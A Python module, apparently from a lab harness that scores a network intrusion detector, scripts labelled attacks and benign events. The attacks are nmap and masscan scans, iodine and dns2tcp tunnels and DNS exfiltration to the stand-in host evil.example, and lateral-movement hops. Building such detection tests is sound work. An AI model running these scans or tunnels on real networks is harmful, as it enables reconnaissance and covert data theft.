"""What happens to the shop: attacks with the tools that attackers use, and what looks like one.

Each is a function that does it once, in the lab, and returns when it is over.
"""

import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from typing import Any, Final

from cluster.lab import Pod
from cluster.shop import RESOLVER, SEARCH, TARGETS, Shop

__all__ = ["HAPPENINGS", "Truth", "happened"]

_EVIL: Final = ("evil.example",)
_KEY: Final = "lab"  # of both ends of a tunnel


@dataclass(frozen=True)
class Truth:
    """What happened: its kind, or benign; who did it to whom, from when to when (epoch seconds).

    actors: workloads that an alert may name. addresses: theirs, whose packets are the events that
    delays are counted in. objects: a workload, an address or a domain that an alert should name,
    any of them.
    """

    name: str
    kind: str
    actors: list[str]
    addresses: list[str]
    objects: list[str]
    start: float
    end: float

    def plain(self) -> dict[str, Any]:
        """As JSON has it."""
        return asdict(self)


@dataclass(frozen=True)
class Happening:
    """kind: scan, dns_exfiltration, lateral_movement or benign. by: the pod that does it. through:
    the pod that it goes on from."""

    name: str
    kind: str
    by: str
    objects: tuple[str, ...]
    do: Callable[[Shop, Pod], None]
    through: str | None = None


def happened(shop: Shop, what: Happening) -> Truth:
    """Let it happen."""
    pods = [shop.lab.pods[name] for name in (what.by, what.through) if name]
    start = time.time()
    what.do(shop, pods[0])
    return Truth(
        what.name,
        what.kind,
        [pod.identity for pod in pods],
        [pod.ip for pod in pods],
        list(what.objects),
        start,
        time.time(),
    )


def _nmap(*arguments: str, seconds: float = 25) -> Callable[[Shop, Pod], None]:
    def do(shop: Shop, pod: Pod) -> None:
        shop.lab.run(pod, ["nmap", "-n", "-Pn", "--send-ip", *arguments], seconds)

    return do


def _masscan(rate: int) -> Callable[[Shop, Pod], None]:
    def do(shop: Shop, pod: Pod) -> None:
        command = ["masscan", "10.244.4.0/26", "-p6379,5432,22", "--rate", str(rate), "-e", "eth0"]
        mac = pod.gateway_mac.replace(":", "-")
        shop.lab.run(pod, [*command, "--router-mac", mac, "--wait", "1"], 20)

    return do


def _iodine(shop: Shop, pod: Pod) -> None:
    lab, server = shop.lab, shop.lab.pods["tunnel"]
    serving = lab.start(server, ["iodined", "-f", "-c", "-P", _KEY, "10.99.0.1", "t.evil.example"])
    time.sleep(0.5)
    # It goes on as long as it is let: some queries a second even without anything to say.
    lab.run(pod, ["iodine", "-f", "-r", "-P", _KEY, RESOLVER, "t.evil.example"], 15)
    serving.kill()


def _dns2tcp(shop: Shop, pod: Pod) -> None:
    lab, server = shop.lab, shop.lab.pods["tunnel"]
    told = lab.folder / "dns2tcpd.conf"
    told.write_text(
        f"listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.evil.example\n"
        f"key = {_KEY}\nresources = web:127.0.0.1:8000\n"
    )
    lab.program(server, "pod.py", {"serve": [8000]})
    serving = lab.start(server, ["dns2tcpd", "-F", "-f", str(told)])
    time.sleep(0.5)
    command = ["dns2tcpc", "-z", "d.evil.example", "-k", _KEY, "-l", "9099", "-r", "web", RESOLVER]
    using = lab.start(pod, command)
    for _ in range(8):
        lab.run(pod, ["curl", "-s", "-m", "1", "http://127.0.0.1:9099/"], 2)
    using.kill()
    serving.kill()


def _exfiltrate(bytes_a_second: float, seconds: float) -> Callable[[Shop, Pod], None]:
    """Data out through names, 30 octets of it in each, as anybody can write it."""

    def do(shop: Shop, pod: Pod) -> None:
        every = 30 * 1.6 / bytes_a_second  # base32
        lookups = [{"name": "{}.x.evil.example", "new": "bulk", "every": every}]
        told = {"dns": RESOLVER, "lookups": lookups, "seed": shop.chance.randrange(1 << 30)}
        process = shop.lab.program(pod, "pod.py", told)
        time.sleep(seconds)
        process.kill()

    return do


def _hops(*hops: tuple[str, str, int]) -> Callable[[Shop, Pod], None]:
    """One connection after the other: from a pod to the address of a service, at a port."""

    def do(shop: Shop, pod: Pod) -> None:
        for number, (by, to, port) in enumerate(hops):
            source = shop.lab.pods[by]
            url = f"http://{shop.address(to)}:{port}/"
            shop.lab.run(source, ["curl", "-s", "-m", "2", "-o", "/dev/null", url], 3)
            time.sleep(1.5 if number + 1 < len(hops) else 0)

    return do


def _rollout(name: str, address: str, more: tuple[Any, ...] = ()) -> Callable[[Shop, Pod], None]:
    def do(shop: Shop, pod: Pod) -> None:
        shop.lab.kill(pod)
        time.sleep(1)
        shop.begin(name, address=address, more=more)
        time.sleep(12)

    return do


def _outage(shop: Shop, pod: Pod) -> None:
    shop.lab.pause(pod, serving=False)
    time.sleep(10)
    shop.lab.pause(pod, serving=True)
    time.sleep(3)


def _wide(shop: Shop, pod: Pod) -> None:
    """The scraper is told of five hundred more targets, and visits each of them twice."""
    calls = [{"to": ip, "port": 9100, "path": "/metrics", "every": 10} for ip in TARGETS]
    told = {"dns": RESOLVER, "calls": calls, "seed": shop.chance.randrange(1 << 30)}
    process = shop.lab.program(pod, "pod.py", told)
    time.sleep(20)
    process.kill()


def _job(shop: Shop, pod: Pod) -> None:
    """The pod of a job comes, does what its like do, and goes."""
    told = {
        "dns": RESOLVER,
        "search": list(SEARCH),
        "calls": [{"to": "orders", "port": 5432, "path": "/report", "every": 1}],
        "seed": shop.chance.randrange(1 << 30),
    }
    job = shop.lab.pod("report-29700000-x2x4z", "10.244.6.21", pod.identity, told)
    time.sleep(8)
    shop.lab.kill(job)


_UDP_PORTS: Final = (
    "7,9,17,19,49,53,67,68,69,80,111,123,135,137,138,139,161,162,177,427,443,445,500,514"
)
_SLOW_PORTS: Final = "21,22,23,25,80,110,143,443,3306,5432,6379,8080"

HAPPENINGS: Final = (
    Happening("outage of a database", "benign", "orders-0", (), _outage),
    Happening(
        "nmap -sS of one service",
        "scan",
        "web-0",
        ("data/orders",),
        _nmap("-sS", "-F", "10.244.4.20"),
    ),
    Happening(
        "a login, and on to a database",
        "lateral_movement",
        "files-0",
        ("pay/pay", "data/orders"),
        _hops(("files-0", "pay", 8443), ("pay-0", "orders", 5432)),
        through="pay-0",
    ),
    Happening("rollout", "benign", "cart-0", (), _rollout("cart", "10.244.2.11")),
    Happening("scraper of 500 targets", "benign", "prometheus", (), _wide),
    Happening("CronJob", "benign", "report", (), _job),
    Happening("iodine", "dns_exfiltration", "stock-0", _EVIL, _iodine),
    Happening(
        "nmap -sT of two networks",
        "scan",
        "api-0",
        (),
        _nmap("-sT", "-p80,443", "10.244.3.0/28", "10.244.9.0/28"),
    ),
    Happening(
        "deploy adds a dependency",
        "benign",
        "api-1",
        (),
        _rollout("api", "10.244.1.23", (("mail", 8025, 2),)),
    ),
    Happening("dns2tcp", "dns_exfiltration", "report", _EVIL, _dns2tcp),
    Happening(
        "nmap -sU of one service",
        "scan",
        "mail-0",
        ("data/cache",),
        _nmap("-sU", f"-p{_UDP_PORTS}", "--max-retries", "1", "10.244.4.10"),
    ),
    Happening("exfiltration, 300 B/s", "dns_exfiltration", "pay-0", _EVIL, _exfiltrate(300, 12)),
    Happening("masscan, 100 packets/s", "scan", "cache-0", (), _masscan(100)),
    Happening(
        "a neighbour, and on to a ledger",
        "lateral_movement",
        "mail-0",
        ("shop/stock", "data/ledger"),
        _hops(("mail-0", "stock", 8080), ("stock-0", "ledger", 5432)),
        through="stock-0",
    ),
    Happening(
        "nmap -sT, 2.5 ports/s",
        "scan",
        "files-0",
        ("data/ledger",),
        _nmap("-sT", "-T2", f"-p{_SLOW_PORTS}", "10.244.4.30"),
    ),
    Happening("exfiltration, 20 B/s", "dns_exfiltration", "ledger-0", _EVIL, _exfiltrate(20, 90)),
)
"""In the order in which they happen."""
